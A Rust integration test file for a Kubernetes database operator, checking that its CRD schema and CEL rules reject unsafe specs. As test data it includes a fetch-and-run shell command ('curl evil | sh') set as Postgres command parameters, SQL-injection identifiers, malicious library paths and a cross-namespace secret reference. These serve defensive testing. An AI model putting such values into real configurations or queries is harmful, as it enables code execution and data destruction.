//! Admission against a real kube-apiserver: the CRDs install, every example applies with
//! server-side apply, and the schema and CEL rules reject bad specs with readable messages.

mod support;

use support::harness;

use anyhow::Result;
use kube::api::{Api, DynamicObject, Patch, PatchParams};
use kube::core::{ApiResource, GroupVersionKind};
use serde_json::{Value, json};

fn api_for(ns: &support::TestNamespace, kind: &str) -> Api<DynamicObject> {
    let ar = ApiResource::from_gvk(&GroupVersionKind::gvk("servicedb.io", "v1alpha1", kind));
    Api::namespaced_with(ns.client.clone(), &ns.name, &ar)
}

async fn apply(ns: &support::TestNamespace, obj: &Value) -> Result<(), kube::Error> {
    let kind = obj["kind"].as_str().unwrap_or_default();
    let name = obj["metadata"]["name"].as_str().unwrap_or_default();
    let obj: DynamicObject = serde_json::from_value(obj.clone()).expect("object");
    api_for(ns, kind)
        .patch(
            name,
            &PatchParams::apply("servicedb-tests").force(),
            &Patch::Apply(&obj),
        )
        .await
        .map(|_| ())
}

fn rejection(result: Result<(), kube::Error>) -> String {
    match result {
        Ok(()) => panic!("the apiserver accepted a spec it should reject"),
        Err(kube::Error::Api(status)) => {
            assert_eq!(status.code, 422, "expected 422 Invalid, got {status:?}");
            status.message
        }
        Err(e) => panic!("unexpected error: {e}"),
    }
}

fn managed(name: &str) -> Value {
    json!({
        "apiVersion": "servicedb.io/v1alpha1", "kind": "ServiceDatabase",
        "metadata": {"name": name},
        "spec": {
            "owner": {"service": "orders"},
            "instance": {"managed": {"version": 17, "storage": {"size": "2Gi"}}},
        }
    })
}

#[tokio::test]
async fn every_example_applies_with_server_side_apply() -> Result<()> {
    harness::install_crds().await?;
    let ns = support::TestNamespace::new("examples").await?;
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples");
    let mut applied = 0;
    for entry in std::fs::read_dir(dir)? {
        let path = entry?.path();
        let text = std::fs::read_to_string(&path)?;
        for doc in serde_yaml::Deserializer::from_str(&text) {
            let value: Value = serde::Deserialize::deserialize(doc)?;
            apply(&ns, &value)
                .await
                .map_err(|e| anyhow::anyhow!("{}: {e}", path.display()))?;
            applied += 1;
        }
    }
    assert!(applied >= 4);
    Ok(())
}

#[tokio::test]
async fn apiserver_rejects_both_managed_and_external() -> Result<()> {
    harness::install_crds().await?;
    let ns = support::TestNamespace::new("adm-both").await?;
    let mut obj = managed("both");
    obj["spec"]["instance"]["external"] =
        json!({"host": "pg.internal", "adminSecretRef": {"name": "a"}});
    let msg = rejection(apply(&ns, &obj).await);
    assert!(msg.contains("exactly one of managed or external"), "{msg}");
    let mut neither = managed("neither");
    neither["spec"]["instance"] = json!({});
    let msg = rejection(apply(&ns, &neither).await);
    assert!(msg.contains("exactly one of managed or external"), "{msg}");
    Ok(())
}

#[tokio::test]
async fn apiserver_rejects_changes_to_immutable_and_monotonic_fields() -> Result<()> {
    harness::install_crds().await?;
    let ns = support::TestNamespace::new("adm-immutable").await?;
    apply(&ns, &managed("orders")).await?;

    let mut renamed = managed("orders");
    renamed["spec"]["database"] = json!({"name": "other_db"});
    let msg = rejection(apply(&ns, &renamed).await);
    assert!(msg.contains("database name is immutable"), "{msg}");

    let mut shrunk = managed("orders");
    shrunk["spec"]["instance"]["managed"]["storage"]["size"] = json!("1Gi");
    let msg = rejection(apply(&ns, &shrunk).await);
    assert!(msg.contains("may grow but never shrink"), "{msg}");

    let mut grown = managed("orders");
    grown["spec"]["instance"]["managed"]["storage"]["size"] = json!("3Gi");
    apply(&ns, &grown).await?;

    let mut older = grown.clone();
    older["spec"]["instance"]["managed"]["version"] = json!(16);
    let msg = rejection(apply(&ns, &older).await);
    assert!(msg.contains("may not go down"), "{msg}");

    let mut switched = grown.clone();
    switched["spec"]["instance"] =
        json!({"external": {"host": "pg.internal", "adminSecretRef": {"name": "a"}}});
    let msg = rejection(apply(&ns, &switched).await);
    assert!(
        msg.contains("instance kind (managed or external) is immutable"),
        "{msg}"
    );

    let mut new_owner = grown.clone();
    new_owner["spec"]["owner"]["service"] = json!("billing");
    let msg = rejection(apply(&ns, &new_owner).await);
    assert!(msg.contains("owner.service is immutable"), "{msg}");
    Ok(())
}

#[tokio::test]
async fn apiserver_rejects_injection_and_overlong_identifiers() -> Result<()> {
    harness::install_crds().await?;
    let ns = support::TestNamespace::new("adm-ident").await?;
    let mut injected = managed("inject");
    injected["spec"]["database"] = json!({"name": "x\"; drop table y; --"});
    let msg = rejection(apply(&ns, &injected).await);
    assert!(msg.contains("spec.database.name"), "{msg}");

    let mut long = managed("long");
    long["spec"]["database"] = json!({"name": "a".repeat(64)});
    let msg = rejection(apply(&ns, &long).await);
    assert!(msg.contains("spec.database.name"), "{msg}");

    let mut table = managed("table");
    table["spec"]["outbox"] = json!({"table": "outbox; drop table y"});
    let msg = rejection(apply(&ns, &table).await);
    assert!(msg.contains("spec.outbox.table"), "{msg}");

    let mut service = managed("svc");
    service["spec"]["owner"]["service"] = json!("Orders_Service");
    let msg = rejection(apply(&ns, &service).await);
    assert!(msg.contains("spec.owner.service"), "{msg}");

    let mut reserved = managed("reserved");
    reserved["spec"]["instance"]["managed"]["parameters"] = json!({"listen_addresses": "*"});
    let msg = rejection(apply(&ns, &reserved).await);
    assert!(
        msg.contains("may not override keys the operator owns"),
        "{msg}"
    );
    Ok(())
}

#[tokio::test]
async fn apiserver_rejects_bad_relays() -> Result<()> {
    harness::install_crds().await?;
    let ns = support::TestNamespace::new("adm-relay").await?;
    let relay = |sink: Value, batch: i64| {
        json!({
            "apiVersion": "servicedb.io/v1alpha1", "kind": "OutboxRelay",
            "metadata": {"name": "r"},
            "spec": {"databaseRef": {"name": "orders"}, "batchSize": batch, "sink": sink}
        })
    };
    let both = json!({"kafka": {"bootstrapServers": "k:9092"}, "nats": {"url": "nats://n:4222"}});
    let msg = rejection(apply(&ns, &relay(both, 10)).await);
    assert!(msg.contains("exactly one of kafka or nats"), "{msg}");
    let msg = rejection(
        apply(
            &ns,
            &relay(json!({"kafka": {"bootstrapServers": "k:9092"}}), 0),
        )
        .await,
    );
    assert!(msg.contains("spec.batchSize"), "{msg}");
    let msg = rejection(apply(&ns, &relay(json!({"kafka": {"bootstrapServers": "k:9092", "properties": {"enable.idempotence": "false"}}}), 10)).await);
    assert!(msg.contains("may not override enable.idempotence"), "{msg}");
    Ok(())
}

fn external(name: &str, service: &str) -> Value {
    json!({
        "apiVersion": "servicedb.io/v1alpha1", "kind": "ServiceDatabase",
        "metadata": {"name": name},
        "spec": {
            "owner": {"service": service},
            "instance": {"external": {"host": "pg.internal", "adminSecretRef": {"name": "a"}}},
        }
    })
}

#[tokio::test]
async fn apiserver_refuses_reserved_database_names() -> Result<()> {
    harness::install_crds().await?;
    let ns = support::TestNamespace::new("adm-reserved").await?;
    for name in ["postgres", "template0", "template1"] {
        let mut obj = managed(&format!("db-{name}"));
        obj["spec"]["database"] = json!({"name": name});
        let msg = rejection(apply(&ns, &obj).await);
        assert!(
            msg.contains("the database name") && msg.contains("is reserved"),
            "{name}: {msg}"
        );
        let mut ext = external(&format!("ext-{name}"), "orders");
        ext["spec"]["database"] = json!({"name": name});
        rejection(apply(&ns, &ext).await);
    }
    // The derived name counts: owner.service `postgres` without database.name is `postgres`.
    let msg = rejection(apply(&ns, &external("derived", "postgres")).await);
    assert!(msg.contains("is reserved"), "{msg}");

    // The external admin's own database, whatever it is called.
    let mut admin_db = external("admindb", "orders");
    admin_db["spec"]["instance"]["external"]["adminDatabase"] = json!("platform");
    admin_db["spec"]["database"] = json!({"name": "platform"});
    let msg = rejection(apply(&ns, &admin_db).await);
    assert!(
        msg.contains("admin database (instance.external.adminDatabase)"),
        "{msg}"
    );
    let mut derived_admin = external("derivedadmin", "platform");
    derived_admin["spec"]["instance"]["external"]["adminDatabase"] = json!("platform");
    rejection(apply(&ns, &derived_admin).await);

    // Names that merely look alike are fine: `template-1` derives `template_1`.
    apply(&ns, &external("lookalike", "template-1")).await?;
    let mut other = external("otheradmin", "orders");
    other["spec"]["instance"]["external"]["adminDatabase"] = json!("platform");
    apply(&ns, &other).await?;
    Ok(())
}

#[tokio::test]
async fn apiserver_refuses_parameters_that_run_commands_or_load_code() -> Result<()> {
    harness::install_crds().await?;
    let ns = support::TestNamespace::new("adm-params").await?;
    let with = |params: Value| {
        let mut obj = managed("params");
        obj["spec"]["instance"]["managed"]["parameters"] = params;
        obj
    };
    for key in [
        "archive_command",
        "ssl_passphrase_command",
        "restore_command",
        "local_preload_libraries",
        "session_preload_libraries",
        "dynamic_library_path",
        "jit_provider",
    ] {
        let msg = rejection(apply(&ns, &with(json!({key: "/bin/sh -c 'curl evil | sh'"}))).await);
        assert!(
            msg.contains(&format!("parameters may not set {key}"))
                && msg.contains("run shell commands or load code"),
            "{key}: {msg}"
        );
    }
    for value in ["/tmp/evil.so", "$libdir/evil", "pg_stat_statements,/tmp/x"] {
        let msg = rejection(apply(&ns, &with(json!({"shared_preload_libraries": value}))).await);
        assert!(
            msg.contains(
                "shared_preload_libraries must be a comma-separated list of plain library names"
            ),
            "{value}: {msg}"
        );
    }
    for key in [
        "fsync",
        "search_path",
        "log_directory",
        "primary_conninfo",
        "no_such_thing",
    ] {
        let msg = rejection(apply(&ns, &with(json!({key: "x", "work_mem": "4MB"}))).await);
        assert!(
            msg.contains(&format!("parameters not allowed: {key}."))
                && msg.contains("only ordinary tuning settings"),
            "{key}: {msg}"
        );
    }
    let msg = rejection(apply(&ns, &with(json!({"ssl_min_protocol_version": "TLSv1.3"}))).await);
    assert!(
        msg.contains("may not override keys the operator owns: ssl_min_protocol_version"),
        "{msg}"
    );

    // Ordinary settings, and plain preload names (the operator decides which), are admitted.
    apply(
        &ns,
        &with(json!({
            "max_connections": "200", "work_mem": "8MB",
            "shared_preload_libraries": "pg_stat_statements, auto_explain"
        })),
    )
    .await?;
    Ok(())
}

#[tokio::test]
async fn apiserver_admits_every_allow_listed_parameter() -> Result<()> {
    harness::install_crds().await?;
    let ns = support::TestNamespace::new("adm-allowed").await?;
    let allowed = servicedb::api::parameters::ALLOWED_PARAMETERS;
    for (i, chunk) in allowed.chunks(60).enumerate() {
        let params: serde_json::Map<String, Value> = chunk
            .iter()
            .map(|k| (k.to_string(), json!("pg_stat_statements")))
            .collect();
        let mut obj = managed(&format!("allowed-{i}"));
        obj["spec"]["instance"]["managed"]["parameters"] = Value::Object(params);
        apply(&ns, &obj)
            .await
            .map_err(|e| anyhow::anyhow!("chunk {i}: {e}"))?;
    }
    Ok(())
}

#[tokio::test]
async fn apiserver_refuses_cdc_settings_the_operator_owns_and_secret_references() -> Result<()> {
    harness::install_crds().await?;
    let ns = support::TestNamespace::new("adm-cdc").await?;
    let with_cdc = |name: &str, extra: serde_json::Value| {
        let mut obj = external(name, "orders");
        obj["spec"]["cdc"] = json!({
            "tables": ["public.orders"],
            "kafkaConnect": {"url": "http://connect.kafka:8083"},
            "topicPrefix": "cdc.orders",
        });
        for (k, v) in extra.as_object().into_iter().flatten() {
            obj["spec"]["cdc"][k] = v.clone();
        }
        obj
    };
    for (key, why) in [
        ("slot.name", "the operator owns"),
        ("Database.Password", "the operator owns"),
        ("database.sslkey", "the operator owns"),
        ("table.include.list", "the operator owns"),
    ] {
        let obj = with_cdc("owned", json!({"settings": {key: "x"}}));
        let msg = rejection(apply(&ns, &obj).await);
        assert!(msg.contains(why), "{key}: {msg}");
    }
    let obj = with_cdc(
        "reference",
        json!({"settings": {"transforms.x.password": "${secrets:kube-system/other:password}"}}),
    );
    let msg = rejection(apply(&ns, &obj).await);
    assert!(msg.contains("config-provider references"), "{msg}");
    let both = with_cdc(
        "providers",
        json!({"secretProvider": {"kubernetesSecret": {}, "directory": {"path": "/x"}}}),
    );
    let msg = rejection(apply(&ns, &both).await);
    assert!(msg.contains("exactly one of"), "{msg}");
    // Ordinary settings and one provider are fine.
    apply(
        &ns,
        &with_cdc(
            "fine",
            json!({"settings": {"snapshot.mode": "never", "errors.max.retries": "10"},
                   "secretProvider": {"directory": {"path": "/opt/kafka/external-configuration/orders-cdc"}}}),
        ),
    )
    .await?;
    Ok(())
}
